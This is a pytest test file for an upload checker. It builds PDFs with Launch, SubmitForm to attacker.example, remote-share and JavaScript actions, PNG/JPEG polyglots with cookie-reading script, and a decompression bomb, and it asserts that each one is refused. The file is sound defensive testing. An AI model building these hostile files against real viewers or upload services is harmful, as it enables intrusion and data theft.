"""An upload is believed only once read whole as the type it claims (issue 15, point 5b and 5c). Every
file here is built in the test: real PDFs with pypdf, real PNG and JPEG with Pillow, then made hostile."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from cnum_shared.framework.uploads import InvalidPdf, InvalidUpload, check_pdf, checked_media_type


def png(size=(4, 3)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(output, "PNG")
    return output.getvalue()


def jpeg(size=(8, 8)) -> bytes:
    output = io.BytesIO()
    Image.new("RGB", size, (30, 30, 200)).save(output, "JPEG")
    return output.getvalue()


def pdf(prepare=None, pages=1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if prepare:
        prepare(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{key}"): value for key, value in entries.items()}
    )


def on_open(kind: str, **entries):
    def prepare(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action(kind, **entries))

    return prepare


def link_annotation(target: DictionaryObject):
    """A link on page 1 whose action is `target`."""

    def prepare(writer):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]
                ),
                NameObject("/A"): target,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return prepare


def uri(address: str):
    return link_annotation(action("/URI", URI=TextStringObject(address)))


def page_additional_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
    )


def names_tree_javascript(writer):
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert('ouvert');")))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("ouverture"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def outline_javascript(writer):
    item = writer.add_outline_item(title="Sommaire", page_number=0)
    item.get_object()[NameObject("/A")] = action("/JavaScript", JS=TextStringObject("app.alert(2)"))


def xfa_form(writer):
    xfa = StreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(
        DictionaryObject({NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
    )


def rich_media(writer):
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


@pytest.mark.parametrize(
    ("prepare", "found"),
    [
        (
            on_open("/Launch", F=TextStringObject("calc.exe")),
            "lancement d'un programme (Launch) (/Root/OpenAction/S)",
        ),
        (
            link_annotation(action("/SubmitForm", F=TextStringObject("https://attacker.example/collect"))),
            "envoi de formulaire (SubmitForm) (/Root/Pages/Kids[0]/Annots[0]/A/S)",
        ),
        (
            link_annotation(action("/GoToR", F=TextStringObject("\\\\attacker.example\\share\\x.pdf"))),
            "lien vers un autre fichier (GoToR) (/Root/Pages/Kids[0]/Annots[0]/A/S)",
        ),
        (
            link_annotation(action("/GoToE", NewWindow=BooleanObject(True))),
            "lien vers un fichier incorporé (GoToE) (/Root/Pages/Kids[0]/Annots[0]/A/S)",
        ),
        (
            uri("javascript:app.alert(1)"),
            "lien javascript: (seuls http, https et mailto sont admis) (/Root/Pages/Kids[0]/Annots[0]/A/URI)",
        ),
        (
            uri(" JaVa\tScRiPt:app.alert(1)"),
            "lien javascript: (seuls http, https et mailto sont admis) (/Root/Pages/Kids[0]/Annots[0]/A/URI)",
        ),
        (
            uri("file:///C:/Windows/System32/calc.exe"),
            "lien file: (seuls http, https et mailto sont admis) (/Root/Pages/Kids[0]/Annots[0]/A/URI)",
        ),
        (page_additional_action, "actions automatiques (AA) (/Root/Pages/Kids[0]/AA)"),
        (names_tree_javascript, "scripts JavaScript (JavaScript) (/Root/Names/JavaScript)"),
        (outline_javascript, "script JavaScript (/Root/Outlines/"),
        (xfa_form, "formulaire XFA (/Root/AcroForm/XFA)"),
        (rich_media, "contenu multimédia (RichMedia) (/Root/Pages/Kids[0]/Annots[0]/Subtype)"),
        (
            lambda writer: writer.add_attachment("facture.exe", b"MZ"),
            "fichiers incorporés (EmbeddedFiles) (/Root/Names/EmbeddedFiles)",
        ),
        (on_open("/Named", N=NameObject("/Print")), "action à l'ouverture (/Named) (/Root/OpenAction)"),
    ],
    ids=[
        "launch-on-open",
        "submit-form",
        "goto-remote",
        "goto-embedded",
        "javascript-uri",
        "javascript-uri-obfuscated",
        "file-uri",
        "page-additional-action",
        "names-tree-javascript",
        "outline-javascript",
        "xfa",
        "rich-media",
        "embedded-file",
        "open-action-named",
    ],
)
def test_a_pdf_with_active_content_is_refused_naming_what_and_where(prepare, found):
    with pytest.raises(InvalidPdf) as refused:
        check_pdf(pdf(prepare))

    message = str(refused.value)
    assert message.startswith("Le PDF contient du contenu actif : ") and message.endswith(". Il est refusé.")
    assert found in message


@pytest.mark.parametrize(
    "prepare",
    [
        None,
        uri("https://www.conseiller-numerique.gouv.fr/"),
        uri("mailto:cnum@example.fr"),
        lambda writer: writer._root_object.__setitem__(
            NameObject("/OpenAction"), ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
        ),
        on_open("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")])),
    ],
    ids=["plain", "https-link", "mailto-link", "open-at-page", "open-goto-action"],
)
def test_a_plain_pdf_with_web_links_or_an_opening_page_is_accepted(prepare):
    assert check_pdf(pdf(prepare, pages=2)).pages == 2


def test_a_pdf_whose_object_graph_loops_is_walked_once():
    def loop(writer):
        first = DictionaryObject()
        second = DictionaryObject({NameObject("/Next"): writer._add_object(first)})
        first[NameObject("/Next")] = writer._add_object(second)
        writer._root_object[NameObject("/Loop")] = first.indirect_reference or writer._add_object(first)

    assert check_pdf(pdf(loop)).pages == 1


# --- Content that claims a type must parse whole as that type ---------------------------------------------


def test_real_png_jpeg_and_pdf_are_accepted_with_their_type():
    assert checked_media_type(png()) == "image/png"
    assert checked_media_type(jpeg()) == "image/jpeg"
    assert checked_media_type(pdf()) == "application/pdf"


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b"\x89PNG\r\n\x1a\n" + HTML,
            "Le fichier commence comme une image PNG mais ne se lit pas entièrement comme telle",
        ),
        (png() + HTML, f"L'image PNG est suivie de {len(HTML)} octets qui n'en font pas partie"),
        (png()[:-20], "Le fichier commence comme une image PNG mais ne se lit pas entièrement comme telle"),
        (
            b"\xff\xd8\xff\xe0" + HTML,
            "Le fichier commence comme une image JPEG mais ne se lit pas entièrement",
        ),
        (jpeg() + HTML, f"L'image JPEG est suivie de {len(HTML)} octets qui n'en font pas partie"),
        (
            jpeg()[: len(jpeg()) // 2],
            "Le fichier commence comme une image JPEG mais ne se lit pas entièrement",
        ),
        (
            # An IHDR of 100 000 × 100 000 pixels: ten billion pixels from a few dozen bytes.
            b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b""))
            + chunk(b"IEND", b""),
            "L'image PNG est démesurée (« bombe de décompression ») : elle est refusée.",
        ),
        (
            # 70 million pixels: under Pillow's own alarm, over what a scanned page needs.
            b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", 10_000, 7_000, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b""))
            + chunk(b"IEND", b""),
            "L'image PNG fait 10000 × 7000 pixels (au plus 60 000 000 pixels) : elle est refusée.",
        ),
        (b"%PDF-1.4 facture" + HTML, "Le PDF est illisible"),
        (HTML, "Seuls les fichiers PDF, PNG et JPEG sont acceptés (contenu vérifié)."),
    ],
    ids=[
        "png-header-then-html",
        "png-then-html",
        "png-truncated",
        "jpeg-header-then-html",
        "jpeg-then-html",
        "jpeg-truncated",
        "png-decompression-bomb",
        "png-too-many-pixels",
        "pdf-header-then-html",
        "html",
    ],
)
def test_content_that_does_not_parse_whole_as_its_claimed_type_is_refused(content, message):
    with pytest.raises(InvalidUpload) as refused:
        checked_media_type(content)

    assert str(refused.value).startswith(message), str(refused.value)
